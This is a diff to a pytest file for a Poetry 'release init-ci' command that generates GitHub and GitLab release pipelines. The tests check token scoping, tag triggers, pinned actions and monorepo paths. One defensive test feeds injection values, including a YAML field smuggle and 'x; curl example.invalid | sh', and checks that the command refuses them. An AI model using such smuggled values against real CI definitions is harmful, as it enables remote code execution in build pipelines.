@@ -71,7 +71,7 @@ def test_the_workflow_scopes_id_token_write_to_the_publish_job(
     assert "permissions:\n  contents: read\n" in top
     assert "    permissions:\n      contents: write" in job
     assert "      id-token: write" in job
-    assert "    environment:\n      name: pypi\n" in job
+    assert '    environment:\n      name: "pypi"\n' in job
 
 
 def test_init_ci_writes_once_and_replaces_only_with_force(make_project: ProjectFactory) -> None:
@@ -102,7 +102,7 @@ def test_gitlab_gets_a_pipeline_with_an_id_token_for_the_index(
 
     assert result.code == 0, result.output
     pipeline = (project.root / ".gitlab-ci.yml").read_text()
-    assert "  id_tokens:\n    PYPI_ID_TOKEN:\n      aud: pypi\n" in pipeline
+    assert '  id_tokens:\n    PYPI_ID_TOKEN:\n      aud: "pypi"\n' in pipeline
     assert "poetry release cut --publish --no-github-release" in pipeline
     assert "namespace: acme" in result.stdout
     assert "top-level pipeline file: .gitlab-ci.yml" in result.stdout
@@ -177,3 +177,74 @@ def test_the_workflows_commands_release_the_project_with_no_token(
     if local_cut:  # the job made the release: a draft until the upload was done
         writes = [r.body for r in github.requests if r.method in ("POST", "PATCH")]
         assert [w["draft"] for w in writes] == [True, False]
+
+
+@pytest.mark.parametrize(
+    ("tag_format", "trigger"),
+    [("{version}", '"[0-9]*"'), ("v{version}", '"v*"'), ("release-{version}", '"release-*"')],
+)
+def test_the_trigger_follows_the_projects_tags(
+    make_project: ProjectFactory, tag_format: str, trigger: str
+) -> None:
+    project = make_project(tags=(tag_format.format(version="1.5.4"),))
+
+    result = project.poetry("release", "init-ci", "--dry-run")
+
+    assert result.code == 0, result.output
+    assert f"    tags:\n      - {trigger}\n" in result.stdout
+
+
+def test_actions_are_pinned_credentials_not_kept_and_versions_pinned(
+    make_project: ProjectFactory,
+) -> None:
+    from poetry.__version__ import __version__ as poetry_version
+
+    project = make_project()
+
+    text = project.poetry("release", "init-ci", "--dry-run").stdout
+
+    uses = re.findall(r"uses: (\S+)", text)
+    assert uses
+    assert all(re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", use) for use in uses)
+    assert "persist-credentials: false" in text
+    assert f'pipx install "poetry=={poetry_version}"' in text
+
+
+@pytest.mark.parametrize(
+    "args",
+    [("--environment", "pypi\n    evil: true"), ("-r", "x; curl example.invalid | sh")],
+)
+def test_values_that_could_inject_into_the_workflow_are_refused(
+    make_project: ProjectFactory, args: tuple[str, ...]
+) -> None:
+    project = make_project()
+
+    result = project.poetry("release", "init-ci", "--dry-run", *args)
+
+    assert result.code == 1
+    assert "cannot go into the CI definition" in result.output
+    assert not (project.root / WORKFLOW).exists()
+
+
+def test_a_monorepo_project_gets_its_own_workflow_at_the_repositorys_root(
+    make_project: ProjectFactory,
+) -> None:
+    project = make_project()
+    sub = project.root / "pkga"
+    sub.mkdir()
+    (sub / "pyproject.toml").write_text(
+        '[project]\nname = "pkga"\nversion = "1.0.0"\n\n[tool.poetry]\npackage-mode = false\n'
+        '\n[tool.poetry-release]\ntag-format = "pkga-v{version}"\n'
+    )
+    project.commit_all("feat: pkga")
+
+    result = run([POETRY, "release", "init-ci"], sub, project.env, 120)
+
+    assert result.code == 0, result.output
+    written = project.root / ".github" / "workflows" / "release-pkga.yml"
+    assert written.is_file()
+    assert not (sub / ".github").exists()
+    text = written.read_text()
+    assert '        working-directory: "pkga"' in text
+    assert '      - "pkga-v*"' in text
+    assert "workflow name: release-pkga.yml" in result.stdout
